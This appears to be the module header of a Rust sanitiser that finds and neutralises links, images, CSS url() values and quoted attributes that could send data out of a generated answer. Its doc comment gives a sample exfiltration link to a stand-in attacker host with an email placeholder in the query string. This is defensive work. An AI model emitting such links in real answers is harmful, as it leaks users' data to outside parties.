//! Places in an answer that send data away, and what becomes of them.
//!
//! ```text
//! [docs](https://evil.example/?q=<EMAIL_0>)     Spot finds the target, Capture its end, Target judges it
//!        └──────── held, at most 2 KiB ───┘     ──▶  [docs](about:blank#lethe-neutralised)
//! see https://evil.example/?q=<EMAIL_0>         Spot knows that this is a URL: the placeholder stays
//! ```
//!
//! Invariant: an original never enters a URL, a target or an attribute, unless every host in it is allow-listed.

mod behind;
mod capture;
mod carries;
mod fence;
mod host;
mod spot;
mod tag;
mod target;
mod url;

pub(super) use behind::{Behind, REACH};
pub(super) use capture::{Capture, End};
pub(super) use spot::{Begun, Spot};
pub(super) use target::{Target, Verdict};

/// What takes the place of a target that would have sent data away.
pub const NEUTRALISED: &str = "about:blank#lethe-neutralised";
/// The longest target that is held; a longer one is neutralised.
pub(super) const LONGEST: usize = 2 << 10;

/// What kind of target is held.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Kind {
    /// `[text](target)`.
    Link,
    /// `![text](target)`, or a link where it cannot be told from one.
    Image,
    /// `[label]: target`.
    Definition,
    /// `<https:target>`.
    Autolink,
    /// `url(target)`.
    Css,
    /// `name="target"`, or `@import "target"`; the quote, or 0. `fetched`: what it names may be fetched unasked.
    Quoted { quote: u8, fetched: bool },
}

impl Kind {
    /// Whether a reader's program fetches it unasked.
    pub(super) const fn is_fetched(self) -> bool {
        match self {
            Self::Link | Self::Autolink => false,
            Self::Image | Self::Definition | Self::Css => true,
            Self::Quoted { fetched, .. } => fetched,
        }
    }
}
